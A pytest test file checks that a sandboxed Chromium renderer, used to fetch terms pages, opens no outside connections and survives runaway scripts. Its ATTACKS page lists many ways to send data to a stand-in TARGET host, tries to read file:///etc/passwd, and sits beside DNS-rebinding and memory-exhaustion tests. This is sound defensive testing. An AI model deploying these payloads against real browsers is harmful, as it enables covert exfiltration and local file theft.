"""Pages that need a browser: shown in a real one, which never has a connection of its own."""

import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from looking import AGENT, build, collect, look

from chromium import chromium, needs_chromium
from hostile_site import HostileSite, Reply
from xborder.fetch import BrowserLimits, Renderer
from xborder.model import FetchBy, Fetched, Health, Source, SourceState, Validators
from xborder.ports import FetchRequest

pytestmark = needs_chromium
QUICK = BrowserLimits(seconds=15)


def browser(limits: BrowserLimits = QUICK, *, isolate: bool = True) -> Renderer:
    return chromium(limits, agent=AGENT, isolate=isolate)


def shell(script: str, *, head: str = "") -> Reply:
    return Reply(f'<!DOCTYPE html><head>{head}</head><div id="root"></div><script>{script}</script>'.encode())


def show(
    url: str, *, with_: Renderer | None = None, fetch: FetchBy = FetchBy.BROWSER, **changed: object
) -> Fetched:
    return look(url, fetch=fetch, browser=with_ or browser(), **changed)  # type: ignore[arg-type]


TEXT = (
    "root.innerHTML = '<h1>Terms</h1><p>"
    + "The processor tells the controller within 24 hours. " * 9
    + "</p>';"
)


@pytest.fixture
def canary() -> Iterator[str]:
    """Where nobody may connect, by TCP or UDP."""
    with HostileSite(host="127.0.0.2") as forbidden, socket.socket(type=socket.SOCK_DGRAM) as packets:
        packets.bind((forbidden.host, forbidden.port))
        packets.setblocking(False)
        yield f"{forbidden.host}:{forbidden.port}"
        assert forbidden.connections == 0
        with pytest.raises(BlockingIOError):
            packets.recv(100)


def processes() -> set[str]:
    """Everything that runs, or lies about dead, and came from a browser of ours."""
    found = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True, check=True).stdout
    return {line for line in found.splitlines() if "xborder-browser-" in line}


def test_a_page_made_by_scripts_is_read_as_its_readers_see_it(site: HostileSite) -> None:
    site.pages["/terms"] = shell("import('/terms.js')", head="<link rel=stylesheet href=/terms.css>")
    site.pages["/terms.js"] = Reply(
        b"const text = await (await fetch('/terms.json')).json(); root.innerHTML = text.html;",
        content_type="text/javascript",
    )
    site.pages["/terms.json"] = Reply(
        b'{"html": "<h1>\xe8\xa6\x8f\xe7\xb4\x84</h1>"}', content_type="application/json"
    )
    found = show(site.url("/terms"), accept_language="ja")
    assert found.health is Health.OK
    assert found.body is not None
    assert "<h1>規約</h1>" in found.body.decode()
    assert (found.media_type, found.charset) == ("text/html", "utf-8")
    assert site.paths == ["/terms", "/terms.js", "/terms.json"]
    assert {asked.headers["user-agent"] for asked in site.asked} == {AGENT}
    assert site.asked[-1].headers["accept-language"].startswith("ja")


def test_a_page_that_needs_no_browser_is_not_shown_in_one(site: HostileSite) -> None:
    plain = Reply(b"<h1>Terms</h1>" + b"<p>The processor deletes the data after the end.</p>" * 20)
    site.pages["/terms"] = plain
    found = show(site.url("/terms"), fetch=FetchBy.AUTO)
    assert (found.body, found.rendering) == (plain.body, None)


def test_a_shell_is_shown_in_a_browser_where_the_registry_leaves_it_open(site: HostileSite) -> None:
    site.pages["/terms"] = shell(TEXT)
    found = show(site.url("/terms"), fetch=FetchBy.AUTO)
    assert found.body is not None and b"within 24 hours" in found.body and b"<script" not in found.body
    assert found.rendering is not None and found.rendering.by.startswith("Chrom")
    assert found.rendering.served == shell(TEXT).body
    assert processes() == set()


def test_scripts_are_asked_for_by_the_same_rules_as_pages(site: HostileSite) -> None:
    site.pages["/robots.txt"] = Reply(b"User-agent: *\nDisallow: /private/")
    site.pages["/terms"] = shell(
        "fetch('/private/text').catch(() => { root.innerHTML = '<p>not allowed</p>' })"
    )
    found = show(site.url("/terms"), ignore_robots=None)
    assert found.body is not None and b"not allowed" in found.body
    assert site.paths == ["/robots.txt", "/terms"]


ATTACKS = """
<link rel="preconnect" href="http://TARGET/"><link rel="dns-prefetch" href="http://TARGET/">
<link rel="prefetch" href="http://TARGET/prefetch"><link rel="modulepreload" href="http://TARGET/m.js">
<link rel="prerender" href="http://TARGET/prerender"><link rel="manifest" href="http://TARGET/manifest">
<script type="speculationrules">{"prefetch": [{"urls": ["http://TARGET/spec"], "eagerness": "immediate"}]}</script>
<img src="http://TARGET/img"><iframe src="http://TARGET/frame"></iframe><object data="http://TARGET/o"></object>
<embed src="http://TARGET/e"><video src="http://TARGET/v" autoplay></video>
<style>@import "http://TARGET/css"; @font-face {font-family: x; src: url(http://TARGET/font)}
p {font-family: x; background: url(http://TARGET/bg)}</style><p>text</p>
<form id="form" action="http://TARGET/form" method="post" target="_blank"></form><div id="root"></div>
<script>
fetch('http://TARGET/fetch', {mode: 'no-cors'}).catch(() => {});
fetch('http://TARGET/post', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => {});
fetch('/away', {mode: 'no-cors'}).catch(() => {});
navigator.sendBeacon('http://TARGET/beacon', 'x');
try { new WebSocket('ws://TARGET/socket') } catch (e) {}
try { new EventSource('http://TARGET/events') } catch (e) {}
try { new WebTransport('https://TARGET/transport') } catch (e) {}
try { new Worker(URL.createObjectURL(new Blob(["fetch('http://TARGET/worker', {mode: 'no-cors'})"]))) } catch (e) {}
try { new SharedWorker('/shared.js') } catch (e) {}
try { navigator.serviceWorker.register('/sw.js') } catch (e) {}
try { importScripts('http://TARGET/import') } catch (e) {}
try {
  const peer = new RTCPeerConnection({iceServers: [{urls: ['stun:TARGET', 'turn:TARGET?transport=tcp'],
    username: 'x', credential: 'y'}]});
  peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
} catch (e) {}
window.open('http://TARGET/popup');
form.submit();
const link = document.createElement('a'); link.href = 'http://TARGET/download'; link.download = 'x'; link.click();
for (const url of ['file:///etc/passwd', 'data:text/html,x', 'blob:x', 'chrome://version'])
  { try { window.open(url); fetch(url).then(r => r.text()).then(t => root.append(t)).catch(() => {}) } catch (e) {} }
root.append('done');
</script>
"""


@pytest.mark.parametrize("isolate", [True, False], ids=["without a network", "with one"])
def test_no_trick_of_a_page_opens_a_connection(site: HostileSite, canary: str, isolate: bool) -> None:
    site.pages["/terms"] = Reply(ATTACKS.replace("TARGET", canary).encode())
    site.pages["/away"] = Reply(status=302, headers=(("Location", f"http://{canary}/redirected"),))
    for path in ("/shared.js", "/sw.js"):
        script = f"fetch('http://{canary}{path}', {{mode: 'no-cors'}})".encode()
        site.pages[path] = Reply(script, content_type="text/javascript")
    found = show(site.url("/terms"), with_=browser(isolate=isolate))
    assert found.body is not None and b"done" in found.body, found.detail.en
    assert b"root:" not in found.body
    assert "/away" in site.paths


def test_a_name_that_leads_inside_is_refused_to_scripts_too(site: HostileSite, canary: str) -> None:
    answers = iter(["127.0.0.1", "127.0.0.2"])

    async def rebinding(host: str, port: int) -> list[str]:
        return [next(answers, "127.0.0.2")]

    port = canary.partition(":")[2]
    script = f"fetch('http://rebinding.example:{port}/x').catch(() => {{ root.append('refused') }})"
    site.pages["/terms"] = shell(script)
    found = show(site.url("/terms", host="rebinding.example"), resolve=rebinding)
    assert found.body is not None and b"refused" in found.body, found.detail.en


@pytest.mark.parametrize(
    ("script", "why"),
    [
        ("setInterval(() => fetch('/more?' + Math.random()).then(r => root.append('x')), 1)", "requests"),
        ("location.href = '/terms?' + Math.random()", "requests"),
        ("while (true) { root.append('x') }", "did not come to rest"),
        ("const all = []; while (true) { all.push(new Array(1e6).fill(all.length)) }", "browser"),
        ("for (let n = 0; n < 12; n++) fetch('/large?' + n)", "MB"),
        ("root.innerHTML = ('<p>' + 'x'.repeat(9999) + '</p>').repeat(300)", "larger than"),
    ],
    ids=["endless requests", "endless moving", "endless script", "endless memory", "much data", "large page"],
)
def test_a_page_without_end_is_ended(site: HostileSite, script: str, why: str) -> None:
    site.pages["/terms"] = shell(script)
    site.pages["/more"] = Reply(b"more")
    site.pages["/large"] = Reply(b"x" * 2**20)
    tight = BrowserLimits(seconds=4, requests=20, body_bytes=10 * 2**20)
    found = show(site.url("/terms"), with_=browser(tight))
    assert found.health in (Health.REFUSED, Health.UNREADABLE)
    assert why in found.detail.en
    assert found.body == site.pages["/terms"].body  # what was served is kept as evidence
    assert processes() == set()


def test_pages_know_nothing_of_each_other(site: HostileSite) -> None:
    remember = "root.append(document.cookie || localStorage.x || 'nothing'); document.cookie = 'x=1'; localStorage.x = 2"
    site.pages["/one"] = site.pages["/two"] = shell(remember)
    sources = [Source(id=p, url=site.url(f"/{p}"), fetch=FetchBy.BROWSER) for p in ("one", "two")]
    found = collect(build(browser=browser()), *(FetchRequest(source=source) for source in sources))
    assert [b"nothing" in (look.body or b"") for look in found] == [True, True]


def test_a_page_that_goes_elsewhere_says_where(site: HostileSite) -> None:
    site.pages["/terms"] = shell("location.replace('/moved')")
    site.pages["/moved"] = Reply(status=302, headers=(("Location", "/en/terms?a=1&b=2"),))
    site.pages["/en/terms"] = shell(TEXT)
    found = show(site.url("/terms"))
    assert found.url == site.url("/en/terms?a=1&b=2")
    assert found.redirects == (found.url,)
    assert found.body is not None and b"within 24 hours" in found.body


def test_a_page_is_asked_for_in_full_every_time(site: HostileSite) -> None:
    site.pages["/terms"] = Reply(shell(TEXT).body, headers=(("ETag", '"1"'),))
    known = SourceState(source="acme/terms", url=site.url("/terms"), validators=Validators(etag='"1"'))
    found = show(site.url("/terms"), state=known)
    assert "if-none-match" not in site.asked[0].headers
    assert found.validators == Validators()


def test_without_a_browser_the_reader_is_told(site: HostileSite) -> None:
    site.pages["/terms"] = shell(TEXT)
    found = look(site.url("/terms"), fetch=FetchBy.BROWSER)
    assert found.health is Health.UNREADABLE
    assert "browser" in found.detail.en


def test_a_browser_that_does_not_start_is_one_clear_error(site: HostileSite, tmp_path: Path) -> None:
    site.pages["/terms"] = shell(TEXT)
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 3\n")
    broken.chmod(0o755)
    found = show(site.url("/terms"), with_=chromium(QUICK, agent=AGENT, executable=broken))
    assert found.health is Health.UNREADABLE
    assert "did not start" in found.detail.en
